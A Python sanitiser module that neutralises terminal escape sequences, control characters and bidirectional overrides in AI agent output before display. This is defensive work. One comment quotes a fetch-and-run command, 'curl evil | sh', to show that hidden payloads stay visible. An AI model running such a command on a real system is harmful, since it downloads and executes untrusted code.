"""Neutralise agent text before it reaches a terminal or a page: no escape sequence may act."""

from __future__ import annotations

import re
from typing import Final

__all__ = ["neutralize"]

# CSI sequences (colours, cursor movement, erase) carry parameters, not text: they
# are removed. Every other control character, the ESC that opens an OSC, DCS, PM or
# APC string included, becomes a visible stand-in, so the string's payload stays on
# screen as text: `ls -la <OSC>… curl evil | sh` still shows the `curl` part.
# Three disjoint character classes: one pass, no backtracking.
_CSI: Final = re.compile(r"(?:\x1b\[|\x9b)[0-?]*[ -/]*[@-~]?")


def _stand_in(code: int) -> str:
    if code < 0x20:
        return chr(0x2400 + code)  # the Unicode "control pictures" block: ␀ ␇ ␈ ␛ ...
    if code == 0x7F:
        return "\u2421"  # ␡
    return f"<U+{code:04X}>"


_TABLE: Final[dict[int, str]] = {
    code: _stand_in(code)
    for code in [*range(0x20), 0x7F, *range(0x80, 0xA0)]
    if code not in (0x09, 0x0A)
}
# Bidirectional overrides and isolates can make displayed text differ from the
# bytes (the "Trojan Source" trick), and zero-width joiners hide content.
_TABLE.update(
    {code: f"<U+{code:04X}>" for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))}
)
# Lone surrogates (from a decoder's surrogateescape) cannot be written to a UTF-8 stream.
_TABLE.update(dict.fromkeys(range(55296, 57344), "�"))

_UNSAFE: Final = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


def neutralize(text: str) -> str:
    """``text`` made safe to print: colour and cursor sequences removed, other controls visible.

    Newlines and tabs are kept; carriage returns, backspaces, bells and the
    escape character become visible symbols (``␍ ␈ ␇ ␛``), so a log can
    neither move the cursor, rewrite earlier output, set the window title, ring
    the bell nor plant a hyperlink, and the text of a title, hyperlink or
    clipboard string stays visible instead of silently disappearing.
    """
    if _UNSAFE.search(text) is None:
        return text
    return _CSI.sub("", text).translate(_TABLE)
